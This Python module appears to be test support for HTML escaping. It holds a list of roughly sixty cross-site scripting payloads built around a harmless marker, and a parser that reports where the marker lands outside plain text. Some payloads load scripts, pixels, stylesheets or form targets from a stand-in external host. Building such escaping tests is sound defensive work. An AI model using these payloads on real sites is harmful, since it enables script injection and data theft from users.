"""Sixty texts that would be active if a page did not escape them, and a parser that finds active ones."""

from html.parser import HTMLParser

MARK = "zqxq"  # long enough to stand in no token by chance

PAYLOADS = [
    *(
        template.replace("@", MARK)
        for template in (
            "<script>@(1)</script>",
            "<ScRiPt>@(1)</sCrIpT>",
            "<script src=//@.example></script>",
            '"><script>@(1)</script>',
            "'><script>@(1)</script>",
            "</title><script>@(1)</script>",
            "</textarea><script>@(1)</script>",
            "</pre><script>@(1)</script>",
            "</style><script>@(1)</script>",
            "--><script>@(1)</script>",
            "]]><script>@(1)</script>",
            "<img src=x onerror=@(1)>",
            "<img/src=x/onerror=@(1)>",
            "<img src=//@.example/pixel.gif>",
            "![x](https://@.example/pixel.gif)",
            "<image href=x onerror=@(1)>",
            "<svg onload=@(1)>",
            "<svg><script>@(1)</script></svg>",
            "<svg><animate onbegin=@(1) attributeName=x>",
            "<math><mtext><script>@(1)</script>",
            "<iframe src=javascript:@(1)>",
            "<iframe srcdoc='<script>@(1)</script>'>",
            "<object data=javascript:@(1)>",
            "<embed src=javascript:@(1)>",
            "<a href=javascript:@(1)>x</a>",
            "<a href='java\tscript:@(1)'>x</a>",
            "[x](javascript:@(1))",
            "javascript:@(1)",
            "data:text/html,<script>@(1)</script>",
            "<body onload=@(1)>",
            "<input autofocus onfocus=@(1)>",
            "<details open ontoggle=@(1)>",
            "<video><source onerror=@(1)>",
            "<audio src=x onerror=@(1)>",
            "<marquee onstart=@(1)>",
            "<base href=//@.example/>",
            "<meta http-equiv=refresh content='0;url=//@.example'>",
            "<link rel=stylesheet href=//@.example/x.css>",
            "<style>@import '//@.example';</style>",
            "<form action=//@.example><button>x",
            "<button form=@ formaction=//@.example>",
            '" onmouseover="@(1)',
            "' onmouseover='@(1)",
            "` onmouseover=`@(1)",
            '" autofocus onfocus="@(1)" x="',
            "<div x-data x-init=@(1)>",
            "<div x-html=\"'@'\">",
            "<div :class=@(1)>",
            "<div @click=@(1)>",
            "<div hx-get=//@.example hx-trigger=load>",
            "{{ @ }}",
            "{% debug %}@",
            "${@(1)}",
            "&lt;script&gt;@(1)&lt;/script&gt;",
            "&#60;script&#62;@(1)",
            "%3Cscript%3E@(1)%3C/script%3E",
            "\u003cscript\u003e@(1)",
            "\uff1cscript\uff1e@(1)",
            "<scr<script>ipt>@(1)</scr</script>ipt>",
            "<noscript><p title='</noscript><img src=x onerror=@(1)>'>",
            "<template><script>@(1)</script></template>",
            "\u202e<script>@(1)</script>\u200b",
        )
    )
]
# Attributes that may hold untrusted text.
WORDS = frozenset({"title", "value", "placeholder", "aria-label", "data-label", "alt"})


class Reader(HTMLParser):
    """Collects every place where the mark is anything but text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.live = []
        self.seen = 0
        self._code = ""

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "style"}:
            self._code = tag
        for name, value in attrs:
            if MARK in name or (MARK in (value or "") and name not in WORDS):
                self.live.append((tag, name, value))

    def handle_endtag(self, tag):
        if tag == self._code:
            self._code = ""

    def handle_data(self, data):
        self.seen += data.count(MARK)
        if self._code and MARK in data:
            self.live.append((self._code, "code", data))

    def handle_comment(self, data):
        if MARK in data:
            self.live.append(("comment", "", data))


def read(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader
